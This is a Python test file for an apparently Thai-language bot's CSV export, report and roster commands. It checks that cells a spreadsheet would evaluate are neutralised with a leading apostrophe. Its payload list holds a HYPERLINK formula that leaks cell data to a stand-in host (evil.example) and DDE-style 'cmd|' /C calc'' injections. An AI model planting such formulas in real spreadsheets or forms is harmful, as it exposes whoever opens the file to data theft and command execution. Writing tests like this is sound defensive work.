"""Text typed by customers, form respondents and staff never reaches a CSV as something Excel
would evaluate: every cell of `kambot export`, `kambot report` and `kambot roster export` that
starts with = + - @ TAB or CR is written as text (a leading apostrophe); roster files read back
as they were typed."""
from __future__ import annotations

import csv
from pathlib import Path

from click.testing import CliRunner
from sqlmodel import select

from bot.cli import main
from storage.csv_cells import TRIGGERS, safe
from storage.db import session_scope
from storage.models import Contact
from tests.forms_harness import at, forms_config, poll
from tests.test_forms_cli import setup, write_config  # noqa: F401  (the forms fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _evaluated_cells(folder: Path) -> list[tuple[str, str]]:
    """Cells a spreadsheet would run: they start with a trigger and are not plain numbers."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                found += [(path.name, cell) for cell in row if cell.startswith(TRIGGERS) and safe(cell) != cell]
    return found


def _all_cells(folder: Path) -> set[str]:
    cells = set()
    for path in folder.glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            cells.update(cell for row in csv.reader(handle) for cell in row)
    return cells


def test_export_and_report_neutralise_every_formula_typed_in(org, sheets, setup, tmp_path):  # noqa: F811
    config, path, tab = setup
    runner = CliRunner()
    staff_csv = tmp_path / "staff.csv"
    staff_csv.write_text(f'staff_code,name,role,office\nK009,"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",kamr,PEA-N1\n',
                         encoding="utf-8")
    accounts_csv = tmp_path / "accounts.csv"
    accounts_csv.write_text(f"account_code,name,tier,office,kamr\nA900,{FORMULAS[2]},star,PEA-N1,K009\n", encoding="utf-8")
    for kind, file in (("staff", staff_csv), ("accounts", accounts_csv)):
        result = runner.invoke(main, ["import", kind, str(file), "--config", path])
        assert result.exit_code == 0, result.output
    for n, formula in enumerate(FORMULAS):  # what respondents typed as the account
        tab.rows.append([at(9, 40 + n), formula, "โรงงาน 1", "ไฟดับ", "", "", "", ""])
    poll(org, config)

    result = runner.invoke(main, ["export", str(tmp_path / "export"), "--config", path])
    assert result.exit_code == 0, result.output
    report_config = write_config(tmp_path, forms_config(org.config, sheets, tmp_path, forms=[]))
    result = runner.invoke(main, ["report", "quarter", "2026Q4", "--out", str(tmp_path / "report"),
                                  "--config", report_config])
    assert result.exit_code == 0, result.output

    for folder in (tmp_path / "export", tmp_path / "report"):
        assert _evaluated_cells(folder) == []
    exported = _all_cells(tmp_path / "export")
    assert [f for f in FORMULAS[:4] if "'" + f not in exported] == []  # kept, readable, inert (intake strips TAB, CR)
    assert "'" + FORMULAS[0] in _all_cells(tmp_path / "report")  # the staff name


def test_roster_export_is_inert_and_reads_back_as_typed(org, tmp_path):
    bot = org
    with session_scope(bot.engine) as session:
        contact = session.exec(select(Contact).where(Contact.line_user_id == "Ucust1")).one()
        contact.name, contact.phone, contact.position = "=1+1", "+66 81 234 5678", "@ผู้จัดการ"
        session.add(contact)
    cli = tmp_path / "cli.toml"
    cli.write_text(f'[database]\nurl = "{bot.config.database.url}"\n', encoding="utf-8")
    runner = CliRunner()
    first, second = tmp_path / "roster1.csv", tmp_path / "roster2.csv"
    assert runner.invoke(main, ["roster", "export", str(first), "--config", str(cli)]).exit_code == 0
    assert _evaluated_cells(tmp_path) == []
    imported = runner.invoke(main, ["roster", "import", str(first), "--config", str(cli)])
    assert imported.exit_code == 0, imported.output
    with session_scope(bot.engine) as session:
        contact = session.exec(select(Contact).where(Contact.line_user_id == "Ucust1")).one()
    assert (contact.name, contact.phone, contact.position) == ("=1+1", "+66 81 234 5678", "@ผู้จัดการ")
    assert runner.invoke(main, ["roster", "export", str(second), "--config", str(cli)]).exit_code == 0
    assert first.read_text(encoding="utf-8-sig") == second.read_text(encoding="utf-8-sig")


def test_plain_numbers_stay_numbers():
    assert [safe(v) for v in ("-3", "+5.5", "-12%", "1,234", 7, -2.5)] == ["-3", "+5.5", "-12%", "1,234", 7, -2.5]
    assert [safe(v) for v in ("=1", "-1+1", "@x", "\tx", "\rx")] == ["'=1", "'-1+1", "'@x", "'\tx", "'\rx"]
